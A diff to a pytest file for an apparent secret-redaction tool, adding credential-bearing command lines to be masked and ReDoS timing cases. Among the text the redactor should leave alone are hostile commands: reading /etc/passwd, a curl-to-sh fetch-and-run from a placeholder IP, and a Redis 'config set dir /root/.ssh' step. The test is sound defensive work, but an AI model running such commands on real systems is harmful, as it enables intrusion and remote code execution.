@@ -25,6 +25,19 @@ CASES = {
     "json cookie": f'{{"cookie": "{SECRET}"}}',
     "url": f"postgres://bob:{SECRET}@db/x",
     "flag": f"mysql --password={SECRET} -h db",
+    "mysqldump": f"0 3 * * * root mysqldump -u root -p{SECRET} --all-databases > /srv/dump.sql",
+    "mysql in quotes": f"mysql -h db -p'{SECRET} {SECRET}' shop",
+    "mysql in a list": f'["mysql","-u","root","-p{SECRET}"]',
+    "mariadb": f"mariadb-dump -p{SECRET} shop",
+    "sshpass": f"sshpass -p {SECRET} ssh root@203.0.113.9",
+    "sshpass together": f"sshpass -v -p{SECRET} scp a b:",
+    "curl": f"curl -s -u bob:{SECRET} https://shop.example/",
+    "curl after an address": f"curl https://shop.example/?a=1&b=2 --user 'bob:{SECRET}'",
+    "curl together": f"curl -ubob:{SECRET} https://shop.example/",
+    "redis": f"redis-cli -h 127.0.0.1 -a {SECRET} ping",
+    "postgres": f"PGPASSWORD={SECRET} psql -h db",
+    "mysql by its environment": f"MYSQL_PWD={SECRET} mysql shop",
+    "wget": f"wget --user=bob --http-password={SECRET} https://shop.example/",
     "flag apart": f"tool --token {SECRET}",
     "flag in a list": f'["tool","--token","{SECRET}"]',
     "ftp": f"USER bob\r\nPASS {SECRET}\r\n",
@@ -54,6 +67,12 @@ def test_a_secret_is_taken_out(text: str, form: type[str]) -> None:
         "T1110 Brute Force: adversaries may guess passwords to attempt access.",
         "cat /etc/passwd; id",
         "GET /pass/through HTTP/1.1",
+        "mysql -u root -P 3306 -p shop",
+        "mkdir -p /srv/a && ssh -p 2222 host && ls -a /tmp",
+        "mysql shop < a.sql; mkdir -pv /srv/a",
+        "curl -s -o /tmp/.x http://203.0.113.66/x | sh",
+        "curl -u bob https://shop.example/",
+        "redis-cli -h 127.0.0.1 config set dir /root/.ssh",
     ],
 )
 def test_ordinary_text_is_untouched(text: str) -> None:
@@ -66,7 +85,23 @@ def test_only_the_secret_line_goes() -> None:
 
 
 @pytest.mark.parametrize(
-    "unit", ["password", "session-token", "Cookie:", "://a:", "-----BEGIN ", "x-key", "eyJ", "AUTH "]
+    "unit",
+    [
+        "password",
+        "session-token",
+        "Cookie:",
+        "://a:",
+        "-----BEGIN ",
+        "x-key",
+        "eyJ",
+        "AUTH ",
+        "mysql ",
+        "mysql -",
+        "curl -u ",
+        "sshpass -p",
+        "redis-cli -",
+        "sshpass -v ",
+    ],
 )
 def test_no_pattern_is_slow_on_repeated_text(unit: str) -> None:
     text = unit * (20_000 // len(unit))
